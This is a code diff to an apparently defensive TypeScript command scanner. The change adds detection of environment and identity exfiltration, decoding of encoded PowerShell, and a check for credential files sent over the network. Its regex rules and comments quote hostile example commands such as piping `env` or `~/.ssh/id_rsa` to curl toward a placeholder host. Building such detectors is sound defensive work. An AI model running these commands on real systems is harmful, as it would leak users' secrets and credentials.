@@ -1,4 +1,5 @@
 import type { Technique } from '../../model/index.js';
+import { bytesToText, decodeBase64 } from './decode.js';
 import { endpointIn, persistenceIn, secretIn } from './indicators.js';
 
 /**
@@ -49,6 +50,10 @@ const RULES: Rule[] = [
   { re: /\b(curl|wget)\b[^|;&]*?(\s-[oO]\b|\s--output\b|\s-qO\b)/, level: 'suspicious', reason: 'downloads a file to disk', downloads: true, technique: 'external-payload' },
   { re: /\b(chmod\s+(\+x|[0-7]*7[0-7]*)|Start-Process|start\s+\/b|\bstart\s+("?\w|\{…\})|mshta|rundll32|regsvr32|wscript|cscript|\.exe\b|\.vbs\b|\.bat\b|\.ps1\b|\.scr\b)/i, level: 'suspicious', reason: 'starts an executable or script' , executes: true },
   { re: /\b(nslookup|dig|host)\s+[^|;&]*(\$\(|`|%\w+%|\$\w+)/i, level: 'malicious', reason: 'sends data in a DNS lookup (DNS exfiltration)' },
+  // The environment or the user's identity put into a request: `curl -d "$(env | base64)" host`,
+  // `curl host/$(whoami)`, `env | curl -d @- host`. (Downloads name their file with `$(uname -m)` or a version
+  // read with `$(cat VERSION)`: those stay mere downloads.)
+  { re: /\b(curl|wget)\b[^;\n]*(\$\(|`)\s*(env|printenv|whoami|hostname)\b|\b(env|printenv)\s*(\|[^;\n]*)?\|\s*(curl|wget|nc|ncat)\b/i, level: 'malicious', reason: 'sends the environment or the user\'s identity with a request (exfiltration)' },
   { re: /\b(nslookup|dig)\b/i, level: 'suspicious', reason: 'makes a DNS lookup' },
   { re: /\b(whoami|ipconfig|ifconfig|systeminfo|net\s+user|cat\s+\/etc\/passwd|printenv|env\s*\||set\s*\|)\b|^\s*(id|hostname|uname\s+-a)\s*$/i, level: 'suspicious', reason: 'collects host information' },
   { re: /\bpowershell(\.exe)?\b|\bpwsh\b/i, level: 'suspicious', reason: 'runs PowerShell' },
@@ -69,7 +74,20 @@ const RULES: Rule[] = [
 
 const UNMISTAKABLE = /reverse shell|defender evasion|encoded PowerShell|DNS exfiltration|miner|contacts a|download-and-invoke|downloads and starts (an executable|the download)/;
 
-export function assessCommand(command: string): CommandAssessment {
+const ENCODED_POWERSHELL = /\b(?:powershell|pwsh)(?:\.exe)?\b.*?\s-e(?:nc|ncodedcommand|c)?\s+([A-Za-z0-9+/]{20,}={0,2})/i;
+
+/**
+ * The script of `powershell -EncodedCommand …`: base64 of UTF-16LE text. Undefined when the argument does
+ * not decode to such text.
+ */
+export function encodedPowerShell(command: string): string | undefined {
+  const m = ENCODED_POWERSHELL.exec(command);
+  const bytes = m ? decodeBase64(m[1] as string) : undefined;
+  if (!bytes || bytes.length < 4 || bytes[1] !== 0 || bytes[3] !== 0) return undefined;
+  return bytesToText(bytes);
+}
+
+export function assessCommand(command: string, depth = 0): CommandAssessment {
   const reasons: string[] = [];
   const techniques = new Set<Technique>();
   let level: CommandLevel = 'unknown';
@@ -90,6 +108,19 @@ export function assessCommand(command: string): CommandAssessment {
     executesPayload ||= rule.executes ?? false;
     literal ||= rule.literal ?? false;
   }
+  // What the encoded script does counts as what the command does, and its text is shown.
+  const script = depth < 2 ? encodedPowerShell(text) : undefined;
+  if (script !== undefined) {
+    const inner = assessCommand(script, depth + 1);
+    raise(inner.level);
+    const shown = script.length > 200 ? `${script.slice(0, 200)}…` : script;
+    // Whether the whole downloads and starts something is said once, below.
+    reasons.push(`the encoded command decodes to \`${shown.replace(/\s+/g, ' ').trim()}\``, ...inner.reasons.filter((r) => !r.startsWith('downloads and starts')).map((r) => `(decoded) ${r}`));
+    for (const t of inner.techniques) techniques.add(t);
+    downloads ||= inner.downloads;
+    executesPayload ||= inner.executesPayload;
+    literal ||= inner.literal;
+  }
   const endpoint = endpointIn(text);
   if (endpoint) {
     raise('malicious');
@@ -99,6 +130,11 @@ export function assessCommand(command: string): CommandAssessment {
   if (secret) {
     raise('suspicious');
     reasons.push(`touches ${secret.label}`);
+    // `curl -T ~/.ssh/id_rsa host`, `curl -d "$(cat ~/.aws/credentials)" host`: the secret leaves the machine.
+    if (reasons.includes('uploads a local file') || /\b(curl|wget)\b[^;\n]*(\$\(|`)\s*(cat|base64|type)\b/i.test(text)) {
+      raise('malicious');
+      reasons.push(`sends ${secret.label} over the network`);
+    }
   }
   const persistence = persistenceIn(text);
   if (persistence) {
@@ -107,7 +143,7 @@ export function assessCommand(command: string): CommandAssessment {
   }
   if (downloads && executesPayload) {
     raise('malicious');
-    if (/\.(exe|scr|bat|cmd|ps1|vbs|msi|hta)\b/i.test(text)) reasons.push('downloads and starts an executable');
+    if (/\.(exe|scr|bat|cmd|ps1|vbs|msi|hta)\b/i.test(script === undefined ? text : `${text}\n${script}`)) reasons.push('downloads and starts an executable');
     else reasons.push('downloads and starts the download in one command');
   }
   if (level === 'unknown' && isBuildCommand(text)) level = 'build';
